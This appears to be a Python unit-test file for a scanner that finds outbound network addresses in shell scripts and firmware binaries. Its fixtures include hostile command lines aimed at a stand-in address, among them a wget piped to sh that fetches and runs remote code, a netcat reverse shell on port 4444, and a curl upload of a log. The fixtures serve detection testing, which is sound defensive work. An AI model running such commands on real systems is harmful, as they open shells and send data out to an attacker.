"""Public addresses in scripts and programs. The addresses are of 203.0.114.0/24, which lies beside a documentation network."""

from __future__ import annotations

import pytest

from asepsis.evidence.looked_for import looked_for
from asepsis.evidence.readers.programs.outside_addresses import OutsideAddressesReader
from asepsis.model.facts import Confidence, Effect, Flow, Zone
from asepsis.model.where import Where
from tests.unit.evidence.reading import search

SHELL = b"#!/bin/sh\n"


def told(data: bytes, path: str = "opt/run") -> list[tuple[str, str]]:
    return [(fact.name, fact.peer) for fact in search(OutsideAddressesReader(), data, path) if isinstance(fact, Flow)]


def test_a_share_of_the_internet_that_a_script_mounts_is_found_at_its_line():
    assert search(OutsideAddressesReader(), SHELL + b"cd /\nmount -o nolock -t nfs 203.0.114.9:/pm /mnt\n", "opt/run") == [
        Flow(Where("e1", "opt/run", line=3), "mount", Effect.RECORD, Zone.INTERNET, "mount", peer="203.0.114.9", confidence=Confidence.LIKELY)
    ]


@pytest.mark.parametrize(
    ("line", "name"),
    [
        (b"tftp -g -r fw.bin 203.0.114.9", "tftp"),
        (b"ftpget -u a 203.0.114.9 x x", "ftpget"),
        (b"wget -q http://203.0.114.9/a.sh -O- | sh", "wget"),
        (b"curl -T log ftp://203.0.114.9/in/", "curl"),
        (b"nc 203.0.114.9 4444 -e /bin/sh", "nc"),
        (b"ssh -R 2222:localhost:22 maint@203.0.114.9", "ssh"),
        (b"SERVER=mqtt://203.0.114.9:1883", "mqtt"),
    ],
)
def test_each_command_with_a_public_address_is_found_once(line: bytes, name: str):
    assert told(SHELL + line + b"\n" + line + b"\n") == [(name, "203.0.114.9")]


def test_a_command_in_a_program_is_likely_and_an_address_alone_is_weak():
    program = b"\x7fELF" + bytes(100) + b"mount -t nfs 203.0.114.9:/pm /mnt\0https://203.0.114.10/api\0"
    facts = search(OutsideAddressesReader(), program, "bin/monitor")
    assert [(fact.peer, fact.confidence, fact.where.offset) for fact in facts] == [
        ("203.0.114.9", Confidence.LIKELY, 104),
        ("203.0.114.10", Confidence.WEAK, 138),
    ]


@pytest.mark.parametrize(
    "address",
    [
        *("10.1.2.3", "192.168.0.1", "172.16.9.9", "127.0.0.1", "169.254.1.1", "100.64.0.1", "192.0.2.7", "198.51.100.7", "203.0.113.7"),
        *("224.0.0.251", "239.1.2.3", "255.255.255.255", "0.0.0.0", "8.8.8.8", "1.1.1.1", "1.2.3.4", "5.6.7.8", "11.11.11.11", "300.1.2.3"),
    ],
)
def test_other_addresses_are_none(address: str):
    assert told(SHELL + b"wget http://" + address.encode() + b"/x\n") == []


@pytest.mark.parametrize(
    "line",
    [
        b"# mount -t nfs 203.0.114.9:/pm /mnt",
        b"echo usage: tftp 203.0.114.9 FILE",
        b"VERSION=203.0.114.9",
        b"wget http://update.maker.net/1.203.0.114.9.tar",
        b"curl https://host.net/?oid=1.3.203.0.114.9",
    ],
)
def test_comments_help_versions_and_names_are_none(line: bytes):
    assert told(SHELL + line + b"\n") == []


def test_prose_web_pages_and_documentation_are_none():
    line = b"wget http://203.0.114.9/x\n"
    assert told(line, "www/index.html") == []
    assert told(SHELL + line, "usr/share/doc/x/run.sh") == []
    assert told(line, "etc/update.conf") == [("wget", "203.0.114.9")]


def test_an_address_alone_does_not_count_as_having_looked_at_traffic():
    flow = Flow(Where("e1", "opt/run", line=3), "mount", Effect.RECORD, Zone.INTERNET, "mount", peer="203.0.114.9", confidence=Confidence.LIKELY)
    entries = {entry.kind: entry for entry in looked_for([flow], ["outside_addresses"], members=5, searched=5, unpacked=True, shut={})}
    assert not entries["Flow"].looked
